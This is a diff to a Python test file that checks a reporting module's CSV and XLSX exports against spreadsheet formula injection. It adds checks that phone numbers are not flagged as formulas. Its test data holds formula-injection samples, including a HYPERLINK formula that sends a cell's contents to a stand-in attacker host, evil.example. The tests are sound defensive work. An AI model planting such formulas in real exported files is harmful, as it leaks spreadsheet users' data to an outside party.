@@ -15,7 +15,7 @@ from reports.cells import csv_cell, looks_like_formula
 from reports.export import export_csv, export_xlsx
 from tests.conftest import Database
 
-NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912", "-1+2", "@SUM(A1:A9)", "\tTab", "＝1+1"]
+NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912 =1", "-1+2", "@SUM(A1:A9)", "\tTab", "＝1+1"]
 
 
 async def test_formula_looking_names_are_exported_as_text(sqlite_db: Database) -> None:
@@ -45,5 +45,7 @@ async def test_formula_looking_names_are_exported_as_text(sqlite_db: Database) -
 
 def test_what_counts_as_a_formula() -> None:
     assert all(looks_like_formula(n) for n in NAMES)
+    for phone in ("+84 912 345 678", "+84912345678", "-5", "0912.345.678"):  # nothing a formula could do
+        assert not looks_like_formula(phone) and csv_cell(phone) == phone
     assert not any(looks_like_formula(v) for v in ("Thôn 1", "", 5, None, "2025-01-06", "a=b"))
     assert csv_cell(5) == 5 and csv_cell("x") == "x" and csv_cell("=1") == "'=1"
